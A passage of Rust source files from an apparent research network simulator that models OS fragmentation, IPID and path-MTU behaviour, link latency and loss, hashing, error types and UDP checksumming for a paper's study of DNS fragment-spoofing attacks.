        assert_eq!(t1 - t0, d);
        assert_eq!(t1.as_nanos(), 12_500_000_000);
    }

    #[test]
    fn saturating_since_clamps_to_zero() {
        let early = SimTime::from_secs(1);
        let late = SimTime::from_secs(2);
        assert_eq!(early.saturating_since(late), SimDuration::ZERO);
        assert_eq!(late.saturating_since(early), SimDuration::from_secs(1));
    }

    #[test]
    fn duration_constructors_agree() {
        assert_eq!(SimDuration::from_secs(1), SimDuration::from_millis(1000));
        assert_eq!(SimDuration::from_mins(2), SimDuration::from_secs(120));
        assert_eq!(SimDuration::from_hours(1), SimDuration::from_mins(60));
        assert_eq!(SimDuration::from_secs_f64(0.25), SimDuration::from_millis(250));
    }

    #[test]
    #[should_panic(expected = "underflow")]
    fn time_sub_underflow_panics() {
        let _ = SimTime::from_secs(1) - SimTime::from_secs(2);
    }

    #[test]
    fn display_formats() {
        assert_eq!(SimDuration::from_secs(90).to_string(), "90.000s");
        assert_eq!(SimDuration::from_millis(7).to_string(), "7ms");
        assert_eq!(SimDuration::from_nanos(42).to_string(), "42ns");
    }
}
