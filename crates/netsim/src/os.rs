//! Operating-system network-stack profiles.
//!
//! The paper's attack surface depends on concrete OS behaviours: how IPIDs
//! are assigned (predictability), how long defragmentation caches hold
//! spoofed fragments, whether ICMP fragmentation-needed messages are
//! honoured and down to what MTU, and whether fragmented datagrams are
//! accepted at all (some resolvers/middleboxes drop them).

use serde::{Deserialize, Serialize};

use crate::frag::{DefragConfig, DuplicatePolicy};
use crate::time::SimDuration;

/// How a host assigns the IPv4 identification field on sent packets.
///
/// Predictable IPIDs are a prerequisite of the fragment-replacement attack
/// (§III-2); the attacker extrapolates the counter from probe responses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum IpidMode {
    /// A single global counter incremented per packet (classic behaviour,
    /// trivially predictable).
    GlobalSequential {
        /// Initial counter value.
        start: u16,
    },
    /// A per-destination counter (predictable only via the destination the
    /// attacker controls plus extrapolation of the increment rate).
    PerDestination {
        /// Initial counter value for every destination.
        start: u16,
    },
    /// Uniformly random per packet (unpredictable; defeats the attack).
    Random,
}

impl Default for IpidMode {
    fn default() -> Self {
        IpidMode::GlobalSequential { start: 1 }
    }
}

/// Whether and how a host reacts to ICMP fragmentation-needed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct PmtudPolicy {
    /// Honour ICMP frag-needed at all. Hosts that ignore it never fragment
    /// (the "no PMTUD" population of Fig. 5).
    pub honour_icmp: bool,
    /// The smallest MTU the host will accept from an ICMP message. Claims
    /// below this are clamped (Linux `min_pmtu`, default 552) or ignored.
    /// This produces the "minimum fragment size" distribution of Fig. 5.
    pub min_accepted_mtu: u16,
    /// How long a learned path MTU is cached before expiring back to the
    /// interface MTU (Linux default: 10 minutes).
    pub cache_lifetime: SimDuration,
}

impl Default for PmtudPolicy {
    fn default() -> Self {
        PmtudPolicy {
            honour_icmp: true,
            min_accepted_mtu: 548,
            cache_lifetime: SimDuration::from_secs(600),
        }
    }
}

impl PmtudPolicy {
    /// A policy that ignores ICMP frag-needed entirely.
    pub fn ignore() -> Self {
        PmtudPolicy { honour_icmp: false, ..PmtudPolicy::default() }
    }

    /// A policy honouring claims down to `min` bytes.
    pub fn honour_down_to(min: u16) -> Self {
        PmtudPolicy { honour_icmp: true, min_accepted_mtu: min, ..PmtudPolicy::default() }
    }
}

/// A complete OS network-stack profile.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OsProfile {
    /// Human-readable name ("linux", "windows", ...).
    pub name: String,
    /// Interface MTU (1500 for Ethernet).
    pub interface_mtu: u16,
    /// Defragmentation-cache behaviour.
    pub defrag: DefragConfig,
    /// Whether incoming fragments are processed at all. Middleboxes and
    /// some resolvers (e.g. Google's public DNS for small fragments) drop
    /// them, defeating the attack.
    pub accept_fragments: bool,
    /// Smallest incoming fragment size (on-wire bytes) that is accepted;
    /// fragments below are dropped. Models resolvers that filter "tiny"
    /// fragments (Table V columns).
    pub min_fragment_size: u16,
    /// Reaction to ICMP fragmentation-needed.
    pub pmtud: PmtudPolicy,
    /// IPID assignment strategy.
    pub ipid: IpidMode,
    /// Cap on the per-destination IPID counter table
    /// ([`IpidMode::PerDestination`]): least-recently-used counters are
    /// evicted past this, bounding memory under spoofed-source sprays.
    pub ipid_cache_cap: usize,
}

/// Default [`OsProfile::ipid_cache_cap`]: enough for every paper scenario
/// while keeping a sprayed stack's footprint bounded.
pub const DEFAULT_IPID_CACHE_CAP: usize = 4096;

impl OsProfile {
    /// Patched Linux: 30 s reassembly timeout, 64-fragment cap, sequential
    /// per-destination IPIDs, honours PMTUD down to 552 bytes.
    pub fn linux() -> Self {
        OsProfile {
            name: "linux".to_owned(),
            interface_mtu: 1500,
            defrag: DefragConfig {
                timeout: SimDuration::from_secs(30),
                max_pending_per_pair: 64,
                duplicate_policy: DuplicatePolicy::FirstWins,
            },
            accept_fragments: true,
            min_fragment_size: 0,
            pmtud: PmtudPolicy::honour_down_to(552),
            ipid: IpidMode::PerDestination { start: 1 },
            ipid_cache_cap: DEFAULT_IPID_CACHE_CAP,
        }
    }

    /// Windows: 60 s reassembly timeout, 100-fragment cap, global
    /// sequential IPIDs.
    pub fn windows() -> Self {
        OsProfile {
            name: "windows".to_owned(),
            interface_mtu: 1500,
            defrag: DefragConfig {
                timeout: SimDuration::from_secs(60),
                max_pending_per_pair: 100,
                duplicate_policy: DuplicatePolicy::FirstWins,
            },
            accept_fragments: true,
            min_fragment_size: 0,
            pmtud: PmtudPolicy::honour_down_to(576),
            ipid: IpidMode::GlobalSequential { start: 1 },
            ipid_cache_cap: DEFAULT_IPID_CACHE_CAP,
        }
    }

    /// A nameserver host that honours ICMP frag-needed down to `min_mtu`
    /// bytes — the measured property of Fig. 5 — with otherwise Linux-like
    /// behaviour, and classic global sequential IPIDs (the vulnerable
    /// configuration the paper exploits).
    pub fn nameserver(min_mtu: u16) -> Self {
        OsProfile {
            name: format!("nameserver-minmtu-{min_mtu}"),
            pmtud: PmtudPolicy::honour_down_to(min_mtu),
            ipid: IpidMode::GlobalSequential { start: 0x0100 },
            ..OsProfile::linux()
        }
    }

    /// A nameserver that ignores PMTUD and never fragments.
    pub fn nameserver_no_pmtud() -> Self {
        OsProfile {
            name: "nameserver-no-pmtud".to_owned(),
            pmtud: PmtudPolicy::ignore(),
            ipid: IpidMode::Random,
            ..OsProfile::linux()
        }
    }

    /// A resolver host that drops all incoming fragments (Google-style
    /// filtering of everything below `min_size` on-wire bytes; pass 0 to
    /// accept everything).
    pub fn resolver_filtering(min_size: u16) -> Self {
        OsProfile {
            name: format!("resolver-filter-{min_size}"),
            min_fragment_size: min_size,
            ..OsProfile::linux()
        }
    }
}

impl Default for OsProfile {
    fn default() -> Self {
        OsProfile::linux()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets_match_paper_constants() {
        let linux = OsProfile::linux();
        assert_eq!(linux.defrag.timeout, SimDuration::from_secs(30));
        assert_eq!(linux.defrag.max_pending_per_pair, 64);
        let win = OsProfile::windows();
        assert_eq!(win.defrag.timeout, SimDuration::from_secs(60));
        assert_eq!(win.defrag.max_pending_per_pair, 100);
    }

    #[test]
    fn nameserver_profile_honours_requested_min_mtu() {
        let ns = OsProfile::nameserver(292);
        assert!(ns.pmtud.honour_icmp);
        assert_eq!(ns.pmtud.min_accepted_mtu, 292);
        assert!(matches!(ns.ipid, IpidMode::GlobalSequential { .. }));
    }

    #[test]
    fn no_pmtud_profile_ignores_icmp() {
        assert!(!OsProfile::nameserver_no_pmtud().pmtud.honour_icmp);
    }
}
