//! Link models: latency, jitter and loss between simulated hosts.

use std::net::Ipv4Addr;

use rand::{Rng, RngExt};

use crate::fasthash::FastMap;
use crate::time::SimDuration;

/// Properties of the path between two hosts.
#[derive(Debug, Clone, Copy, PartialEq, serde::Serialize, serde::Deserialize)]
pub struct LinkSpec {
    /// Base one-way latency.
    pub latency: SimDuration,
    /// Uniform jitter added on top of `latency` (0..=jitter).
    pub jitter: SimDuration,
    /// Probability in [0, 1] that a packet is silently dropped.
    pub loss: f64,
}

impl LinkSpec {
    /// A LAN-like link: 0.5 ms latency, 0.1 ms jitter, lossless.
    pub fn lan() -> Self {
        LinkSpec {
            latency: SimDuration::from_micros(500),
            jitter: SimDuration::from_micros(100),
            loss: 0.0,
        }
    }

    /// A WAN-like link: 20 ms latency, 5 ms jitter, lossless.
    pub fn wan() -> Self {
        LinkSpec {
            latency: SimDuration::from_millis(20),
            jitter: SimDuration::from_millis(5),
            loss: 0.0,
        }
    }

    /// A fixed-latency, lossless, jitterless link (deterministic tests).
    pub fn fixed(latency: SimDuration) -> Self {
        LinkSpec { latency, jitter: SimDuration::ZERO, loss: 0.0 }
    }

    /// Returns a copy with the given loss probability.
    ///
    /// # Panics
    ///
    /// Panics if `loss` is not within `[0, 1]`.
    pub fn with_loss(mut self, loss: f64) -> Self {
        assert!((0.0..=1.0).contains(&loss), "loss probability must be in [0,1]");
        self.loss = loss;
        self
    }

    /// Samples a delivery delay (or `None` for a lost packet).
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> Option<SimDuration> {
        if self.loss > 0.0 && rng.random_bool(self.loss) {
            return None;
        }
        let jitter = if self.jitter == SimDuration::ZERO {
            SimDuration::ZERO
        } else {
            SimDuration::from_nanos(rng.random_range(0..=self.jitter.as_nanos()))
        };
        Some(self.latency + jitter)
    }
}

impl Default for LinkSpec {
    fn default() -> Self {
        LinkSpec::wan()
    }
}

/// The set of links between hosts. Paths not explicitly configured use the
/// default spec; overrides are directional.
#[derive(Debug, Clone, Default)]
pub struct Topology {
    default: LinkSpec,
    overrides: FastMap<(Ipv4Addr, Ipv4Addr), LinkSpec>,
}

impl Topology {
    /// A topology where every path uses `default`.
    pub fn uniform(default: LinkSpec) -> Self {
        Topology { default, overrides: FastMap::default() }
    }

    /// Pre-sizes the override table for `additional` more directional
    /// links, so topology builders with known link counts never rehash
    /// mid-setup.
    pub fn reserve_links(&mut self, additional: usize) -> &mut Self {
        self.overrides.reserve(additional);
        self
    }

    /// Sets the directional link from `src` to `dst`.
    pub fn set_link(&mut self, src: Ipv4Addr, dst: Ipv4Addr, spec: LinkSpec) -> &mut Self {
        self.overrides.insert((src, dst), spec);
        self
    }

    /// Sets the link in both directions.
    pub fn set_link_bidir(&mut self, a: Ipv4Addr, b: Ipv4Addr, spec: LinkSpec) -> &mut Self {
        self.set_link(a, b, spec);
        self.set_link(b, a, spec);
        self
    }

    /// The spec governing delivery from `src` to `dst`.
    pub fn link(&self, src: Ipv4Addr, dst: Ipv4Addr) -> &LinkSpec {
        // Uniform topologies (the common Monte-Carlo case) skip the hash.
        if self.overrides.is_empty() {
            return &self.default;
        }
        self.overrides.get(&(src, dst)).unwrap_or(&self.default)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn fixed_link_is_deterministic() {
        let mut rng = SmallRng::seed_from_u64(1);
        let spec = LinkSpec::fixed(SimDuration::from_millis(10));
        for _ in 0..100 {
            assert_eq!(spec.sample(&mut rng), Some(SimDuration::from_millis(10)));
        }
    }

    #[test]
    fn lossy_link_drops_roughly_expected_fraction() {
        let mut rng = SmallRng::seed_from_u64(42);
        let spec = LinkSpec::fixed(SimDuration::from_millis(1)).with_loss(0.3);
        let lost = (0..10_000).filter(|_| spec.sample(&mut rng).is_none()).count();
        assert!((2_500..3_500).contains(&lost), "lost {lost} of 10000");
    }

    #[test]
    fn jitter_stays_within_bounds() {
        let mut rng = SmallRng::seed_from_u64(7);
        let spec = LinkSpec::wan();
        for _ in 0..1000 {
            let d = spec.sample(&mut rng).unwrap();
            assert!(d >= spec.latency);
            assert!(d <= spec.latency + spec.jitter);
        }
    }

    #[test]
    fn topology_overrides_are_directional() {
        let a: Ipv4Addr = "10.0.0.1".parse().unwrap();
        let b: Ipv4Addr = "10.0.0.2".parse().unwrap();
        let mut topo = Topology::uniform(LinkSpec::wan());
        topo.set_link(a, b, LinkSpec::lan());
        assert_eq!(topo.link(a, b), &LinkSpec::lan());
        assert_eq!(topo.link(b, a), &LinkSpec::wan());
    }

    #[test]
    #[should_panic(expected = "loss probability")]
    fn invalid_loss_panics() {
        let _ = LinkSpec::lan().with_loss(1.5);
    }
}
