//! A fast, non-cryptographic hasher for the simulator's small fixed-size
//! keys (`Ipv4Addr`, address pairs, [`FragKey`](crate::frag::FragKey)).
//!
//! The event loop performs a handful of map operations per packet — IPID
//! counter lookup on send, address→`HostId` resolution at transmit, defrag
//! keying on fragment receipt. SipHash's per-call setup dominates for
//! 4–16-byte keys, so these tables use an FNV-1a-style mixer with a
//! splitmix64 finalizer instead. Keys are attacker-influenced only through
//! simulated addresses inside a single-process simulation, so HashDoS
//! resistance buys nothing here.

#[allow(clippy::disallowed_types)] // mirrored clippy allow for the same rule
// simlint: allow(std-hash) — this module IS the sanctioned wrapper: FastMap and
// FastSet re-key std's tables with a fixed-state hasher, removing the hazard.
use std::collections::{HashMap, HashSet};
use std::hash::{BuildHasherDefault, Hasher};

/// FNV-1a byte mixer with a splitmix64 finalizer (good bucket dispersion
/// even for sequential IPv4 keys).
#[derive(Debug, Default, Clone)]
pub struct FastHasher(u64);

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;

impl Hasher for FastHasher {
    fn finish(&self) -> u64 {
        // splitmix64 finalizer: full avalanche over the folded state.
        let mut x = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        x ^ (x >> 31)
    }

    fn write(&mut self, bytes: &[u8]) {
        let mut h = if self.0 == 0 { FNV_OFFSET } else { self.0 };
        for &b in bytes {
            h = (h ^ u64::from(b)).wrapping_mul(FNV_PRIME);
        }
        self.0 = h;
    }

    fn write_u8(&mut self, n: u8) {
        self.write(&[n]);
    }

    fn write_u16(&mut self, n: u16) {
        self.write(&n.to_le_bytes());
    }

    fn write_u32(&mut self, n: u32) {
        self.write(&n.to_le_bytes());
    }

    fn write_u64(&mut self, n: u64) {
        self.write(&n.to_le_bytes());
    }

    fn write_usize(&mut self, n: usize) {
        self.write(&n.to_le_bytes());
    }
}

/// A `HashMap` keyed through [`FastHasher`]. Unlike the std default, its
/// hasher has no random state: iteration order is a pure function of the
/// inserted keys, so map-order effects can never leak nondeterminism into
/// trial results.
#[allow(clippy::disallowed_types)]
// simlint: allow(std-hash) — the definition of FastMap itself.
pub type FastMap<K, V> = HashMap<K, V, BuildHasherDefault<FastHasher>>;

/// A `HashSet` keyed through [`FastHasher`] (see [`FastMap`]).
#[allow(clippy::disallowed_types)]
// simlint: allow(std-hash) — the definition of FastSet itself.
pub type FastSet<T> = HashSet<T, BuildHasherDefault<FastHasher>>;

/// A [`FastMap`] pre-sized for `capacity` entries. `FastMap::default()`
/// starts empty and rehashes as it grows; builders that know their size
/// (host populations, per-host caches) should reserve up front so setup
/// never rehashes mid-registration.
pub fn map_with_capacity<K, V>(capacity: usize) -> FastMap<K, V> {
    FastMap::with_capacity_and_hasher(capacity, BuildHasherDefault::default())
}

/// A [`FastSet`] pre-sized for `capacity` entries (see [`map_with_capacity`]).
pub fn set_with_capacity<T>(capacity: usize) -> FastSet<T> {
    FastSet::with_capacity_and_hasher(capacity, BuildHasherDefault::default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    #[test]
    fn map_round_trips_ipv4_keys() {
        let mut map: FastMap<Ipv4Addr, u32> = FastMap::default();
        for i in 0..10_000u32 {
            map.insert(Ipv4Addr::from(0x0A00_0000 + i), i);
        }
        assert_eq!(map.len(), 10_000);
        for i in 0..10_000u32 {
            assert_eq!(map.get(&Ipv4Addr::from(0x0A00_0000 + i)), Some(&i));
        }
    }

    #[test]
    fn sequential_keys_disperse() {
        // Sequential IPs (the common population layout) must not collapse
        // onto a few buckets: check the finalized hashes' low byte spread.
        use std::hash::{BuildHasher, BuildHasherDefault};
        let build: BuildHasherDefault<FastHasher> = BuildHasherDefault::default();
        let mut seen = [false; 256];
        for i in 0..256u32 {
            let h = build.hash_one(Ipv4Addr::from(0x0A00_0000 + i));
            seen[(h & 0xFF) as usize] = true;
        }
        let distinct = seen.iter().filter(|&&s| s).count();
        assert!(distinct > 140, "only {distinct} distinct low bytes over 256 sequential IPs");
    }
}
