//! Error types shared across the simulator.

use core::fmt;

/// Errors produced while encoding or decoding wire formats.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WireError {
    /// Input shorter than a required structure.
    Truncated {
        /// Bytes required.
        needed: usize,
        /// Bytes available.
        got: usize,
    },
    /// IP version field was not 4.
    BadVersion {
        /// Observed version nibble.
        version: u8,
    },
    /// IPv4 options are not supported by this simulator.
    UnsupportedOptions {
        /// Observed header length in bytes.
        ihl: usize,
    },
    /// A checksum did not verify.
    BadChecksum {
        /// Which layer failed ("ipv4", "udp", "icmp").
        layer: &'static str,
    },
    /// Declared length disagrees with the buffer.
    LengthMismatch {
        /// Length declared in the header.
        declared: usize,
        /// Bytes actually present.
        actual: usize,
    },
    /// A structure would exceed its maximum representable size.
    Oversize {
        /// Attempted size.
        len: usize,
    },
    /// Fragment offset outside the 13-bit field.
    BadFragmentOffset {
        /// Offset in 8-byte units.
        offset: u16,
    },
    /// A field held a value the decoder cannot represent.
    BadField {
        /// Field description.
        field: &'static str,
    },
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireError::Truncated { needed, got } => {
                write!(f, "truncated input: needed {needed} bytes, got {got}")
            }
            WireError::BadVersion { version } => write!(f, "unsupported IP version {version}"),
            WireError::UnsupportedOptions { ihl } => {
                write!(f, "IPv4 options unsupported (ihl {ihl} bytes)")
            }
            WireError::BadChecksum { layer } => write!(f, "bad {layer} checksum"),
            WireError::LengthMismatch { declared, actual } => {
                write!(f, "length mismatch: declared {declared}, actual {actual}")
            }
            WireError::Oversize { len } => write!(f, "structure too large: {len} bytes"),
            WireError::BadFragmentOffset { offset } => {
                write!(f, "fragment offset {offset} exceeds 13 bits")
            }
            WireError::BadField { field } => write!(f, "invalid field: {field}"),
        }
    }
}

impl std::error::Error for WireError {}

/// Errors produced by the fragmentation engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FragmentError {
    /// The requested MTU is below the IPv4 minimum of 68 bytes.
    MtuTooSmall {
        /// Requested MTU.
        mtu: u16,
    },
    /// The packet has the Don't-Fragment bit set but exceeds the MTU.
    DontFragment {
        /// Packet length that did not fit.
        len: usize,
        /// Path MTU it did not fit into.
        mtu: u16,
    },
    /// The packet is already a fragment and cannot be re-fragmented here.
    AlreadyFragmented,
}

impl fmt::Display for FragmentError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FragmentError::MtuTooSmall { mtu } => {
                write!(f, "mtu {mtu} below IPv4 minimum of 68")
            }
            FragmentError::DontFragment { len, mtu } => {
                write!(f, "DF set: packet of {len} bytes exceeds mtu {mtu}")
            }
            FragmentError::AlreadyFragmented => write!(f, "cannot re-fragment a fragment"),
        }
    }
}

impl std::error::Error for FragmentError {}

/// Errors raised by [`crate::sim::Simulator`] configuration.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SimError {
    /// Two hosts were registered with the same address.
    DuplicateAddress {
        /// The conflicting address.
        addr: std::net::Ipv4Addr,
    },
    /// A referenced host does not exist.
    NoSuchHost {
        /// The missing address.
        addr: std::net::Ipv4Addr,
    },
    /// The event budget set via
    /// [`set_event_budget`](crate::sim::Simulator::set_event_budget) ran
    /// out with events still queued.
    EventBudgetExceeded {
        /// The configured budget.
        max_events: u64,
    },
}

impl fmt::Display for SimError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SimError::DuplicateAddress { addr } => write!(f, "duplicate host address {addr}"),
            SimError::NoSuchHost { addr } => write!(f, "no host registered at {addr}"),
            SimError::EventBudgetExceeded { max_events } => {
                write!(f, "event budget of {max_events} exhausted with events still queued")
            }
        }
    }
}

impl std::error::Error for SimError {}
