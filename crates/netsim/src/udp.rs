//! UDP datagrams with real pseudo-header checksums (RFC 768).
//!
//! The UDP checksum is the last line of defence against the spoofed-fragment
//! attack: a reassembled datagram whose payload was altered without a
//! matching checksum fix-up is dropped here, exactly as a real stack would.

use core::fmt;
use std::net::Ipv4Addr;

use bytes::{BufMut, Bytes, BytesMut};

use crate::checksum;
use crate::error::WireError;
use crate::ipv4::PROTO_UDP;

/// Length of the UDP header.
pub const UDP_HEADER_LEN: usize = 8;

/// A UDP datagram: ports plus application payload.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct UdpDatagram {
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Application payload.
    pub payload: Bytes,
}

// Datagrams ride `Action::SendUdp` by value: 32 B = two ports (padded) +
// the 24-B `Bytes` handle. See the matching assert on `Ipv4Packet`.
const _: () = assert!(std::mem::size_of::<UdpDatagram>() <= 32, "UdpDatagram grew past 32 bytes");

impl UdpDatagram {
    /// Creates a datagram.
    pub fn new(src_port: u16, dst_port: u16, payload: Bytes) -> Self {
        UdpDatagram { src_port, dst_port, payload }
    }

    /// Total UDP length (header + payload).
    pub fn wire_len(&self) -> usize {
        UDP_HEADER_LEN + self.payload.len()
    }

    /// Encodes to wire bytes including the pseudo-header checksum computed
    /// over `src`/`dst` addresses.
    ///
    /// # Errors
    ///
    /// Returns [`WireError::Oversize`] if the datagram exceeds 65 535 bytes.
    pub fn encode(&self, src: Ipv4Addr, dst: Ipv4Addr) -> Result<Bytes, WireError> {
        let len = self.wire_len();
        if len > usize::from(u16::MAX) {
            return Err(WireError::Oversize { len });
        }
        // The checksum is computed *before* the header is written: the
        // header's contribution (ports + length, checksum field zero) is
        // four words already sitting in registers, so only the payload is
        // summed from memory. The header then goes out as one 8-byte write
        // with the final checksum in place — no placeholder, no patch-up.
        let len16 = len as u16;
        let s = u64::from(u32::from(src));
        let d = u64::from(u32::from(dst));
        let sum = (s >> 16)
            + (s & 0xFFFF)
            + (d >> 16)
            + (d & 0xFFFF)
            + u64::from(PROTO_UDP)
            + 2 * u64::from(len16) // pseudo-header length + header length word
            + u64::from(self.src_port)
            + u64::from(self.dst_port)
            + u64::from(checksum::ones_complement_sum(&self.payload));
        let ck = !checksum::fold_sum(sum);
        // Per RFC 768 a computed checksum of zero is transmitted as 0xFFFF.
        let ck = if ck == 0 { 0xFFFF } else { ck };
        let sp = self.src_port.to_be_bytes();
        let dp = self.dst_port.to_be_bytes();
        let ln = len16.to_be_bytes();
        let cb = ck.to_be_bytes();
        let hdr = [sp[0], sp[1], dp[0], dp[1], ln[0], ln[1], cb[0], cb[1]];
        // Datagrams that fit a `Bytes` inline buffer (NTP mode 3/4 probes,
        // short DNS queries) assemble in a stack array and never touch the
        // buffer pool; larger ones go through `BytesMut` as before.
        if len <= bytes::INLINE_CAP {
            let mut wire = [0u8; bytes::INLINE_CAP];
            wire[..UDP_HEADER_LEN].copy_from_slice(&hdr);
            wire[UDP_HEADER_LEN..len].copy_from_slice(&self.payload);
            return Ok(Bytes::copy_from_slice(&wire[..len]));
        }
        let mut buf = BytesMut::with_capacity(len);
        buf.put_slice(&hdr);
        buf.put_slice(&self.payload);
        Ok(buf.freeze())
    }

    /// Decodes wire bytes, verifying length and checksum against the
    /// pseudo-header for `src`/`dst`.
    ///
    /// # Errors
    ///
    /// Returns [`WireError`] variants for truncation, length mismatch or a
    /// failed checksum (checksum 0 means "not computed" and is accepted,
    /// matching real IPv4 stacks).
    pub fn decode(data: &[u8], src: Ipv4Addr, dst: Ipv4Addr) -> Result<UdpDatagram, WireError> {
        let declared = Self::verify(data, src, dst)?;
        Ok(UdpDatagram {
            src_port: u16::from_be_bytes([data[0], data[1]]),
            dst_port: u16::from_be_bytes([data[2], data[3]]),
            payload: Bytes::copy_from_slice(&data[UDP_HEADER_LEN..declared]),
        })
    }

    /// Zero-copy variant of [`UdpDatagram::decode`]: the returned payload
    /// is a slice sharing `data`'s storage instead of a fresh copy. This is
    /// the simulator's delivery path — a reassembled datagram reaches the
    /// host without its payload ever being re-copied.
    ///
    /// # Errors
    ///
    /// Same as [`UdpDatagram::decode`].
    pub fn decode_bytes(
        data: &Bytes,
        src: Ipv4Addr,
        dst: Ipv4Addr,
    ) -> Result<UdpDatagram, WireError> {
        let declared = Self::verify(data, src, dst)?;
        Ok(UdpDatagram {
            src_port: u16::from_be_bytes([data[0], data[1]]),
            dst_port: u16::from_be_bytes([data[2], data[3]]),
            payload: data.slice(UDP_HEADER_LEN..declared),
        })
    }

    /// Shared validation for the decode variants: checks header length,
    /// declared length and the pseudo-header checksum, returning the
    /// declared datagram length.
    fn verify(data: &[u8], src: Ipv4Addr, dst: Ipv4Addr) -> Result<usize, WireError> {
        if data.len() < UDP_HEADER_LEN {
            return Err(WireError::Truncated { needed: UDP_HEADER_LEN, got: data.len() });
        }
        let declared = usize::from(u16::from_be_bytes([data[4], data[5]]));
        if declared < UDP_HEADER_LEN || declared > data.len() {
            return Err(WireError::LengthMismatch { declared, actual: data.len() });
        }
        let data = &data[..declared];
        let ck_field = u16::from_be_bytes([data[6], data[7]]);
        if ck_field != 0 {
            let computed = Self::compute_checksum(data, src, dst);
            // `compute_checksum` over a buffer that already contains the
            // checksum yields 0 iff the datagram verifies.
            if computed != 0 {
                return Err(WireError::BadChecksum { layer: "udp" });
            }
        }
        Ok(declared)
    }

    /// Computes the UDP checksum over the pseudo-header and `segment`
    /// (header + payload, with the checksum field as currently present).
    ///
    /// The pseudo-header is summed from a stack buffer and combined with
    /// the segment's sum in ones'-complement arithmetic — no allocation,
    /// no copy of the segment (this runs twice per packet on the hot path:
    /// once on encode, once on verify).
    #[inline]
    pub fn compute_checksum(segment: &[u8], src: Ipv4Addr, dst: Ipv4Addr) -> u16 {
        // The pseudo-header is six 16-bit words — the address halves, the
        // protocol and the length — summed directly from registers rather
        // than staged through a stack buffer (this runs twice per packet
        // on the hot path: once on encode, once on verify). Word alignment
        // of the even-length pseudo-header is preserved, so the
        // ones'-complement sums combine exactly.
        let s = u64::from(u32::from(src));
        let d = u64::from(u32::from(dst));
        let pseudo = (s >> 16)
            + (s & 0xFFFF)
            + (d >> 16)
            + (d & 0xFFFF)
            + u64::from(PROTO_UDP)
            + segment.len() as u64;
        !checksum::oc_add(checksum::fold_sum(pseudo), checksum::ones_complement_sum(segment))
    }
}

impl fmt::Display for UdpDatagram {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "UDP :{} -> :{} ({} bytes)", self.src_port, self.dst_port, self.payload.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SRC: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const DST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    #[test]
    fn round_trip() {
        let d = UdpDatagram::new(5353, 53, Bytes::from_static(b"query"));
        let wire = d.encode(SRC, DST).unwrap();
        let back = UdpDatagram::decode(&wire, SRC, DST).unwrap();
        assert_eq!(back, d);
    }

    #[test]
    fn checksum_binds_addresses() {
        // A datagram re-routed to a different destination must fail — this
        // is the property that forces the attacker to spoof the exact
        // nameserver address.
        let d = UdpDatagram::new(1000, 2000, Bytes::from_static(b"payload"));
        let wire = d.encode(SRC, DST).unwrap();
        let other = Ipv4Addr::new(10, 9, 9, 9);
        assert!(matches!(
            UdpDatagram::decode(&wire, SRC, other),
            Err(WireError::BadChecksum { .. })
        ));
    }

    #[test]
    fn payload_tamper_detected() {
        let d = UdpDatagram::new(1, 2, Bytes::from_static(b"time is 12:00"));
        let wire = d.encode(SRC, DST).unwrap();
        let mut bad = wire.to_vec();
        let last = bad.len() - 1;
        bad[last] ^= 0x20;
        assert!(matches!(UdpDatagram::decode(&bad, SRC, DST), Err(WireError::BadChecksum { .. })));
    }

    #[test]
    fn zero_checksum_accepted_as_disabled() {
        let d = UdpDatagram::new(7, 8, Bytes::from_static(b"nocksum"));
        let mut wire = d.encode(SRC, DST).unwrap().to_vec();
        wire[6] = 0;
        wire[7] = 0;
        let back = UdpDatagram::decode(&wire, SRC, DST).unwrap();
        assert_eq!(back.payload, d.payload);
    }

    #[test]
    fn truncated_header_rejected() {
        assert!(matches!(
            UdpDatagram::decode(&[0, 53, 0, 53, 0, 9], SRC, DST),
            Err(WireError::Truncated { .. })
        ));
    }

    #[test]
    fn declared_length_longer_than_buffer_rejected() {
        let d = UdpDatagram::new(1, 2, Bytes::from_static(b"abc"));
        let wire = d.encode(SRC, DST).unwrap();
        let mut bad = wire.to_vec();
        bad[5] = 200; // declared length 200 > actual
        assert!(matches!(
            UdpDatagram::decode(&bad, SRC, DST),
            Err(WireError::LengthMismatch { .. })
        ));
    }

    #[test]
    fn empty_payload_round_trips() {
        let d = UdpDatagram::new(123, 321, Bytes::new());
        let wire = d.encode(SRC, DST).unwrap();
        assert_eq!(wire.len(), UDP_HEADER_LEN);
        assert_eq!(UdpDatagram::decode(&wire, SRC, DST).unwrap(), d);
    }
}
