//! The discrete-event simulator: hosts, network stacks, and the event loop.
//!
//! Every host owns a [`NetStack`] (defragmentation cache, path-MTU cache,
//! IPID counters per its [`OsProfile`]) and implements [`Host`]. Packets are
//! real encoded IPv4 bytes-on-structs; delivery times come from the
//! [`Topology`]'s link specs; everything is driven by a deterministic,
//! seeded event heap.

use std::any::Any;
use std::cmp::Reverse;
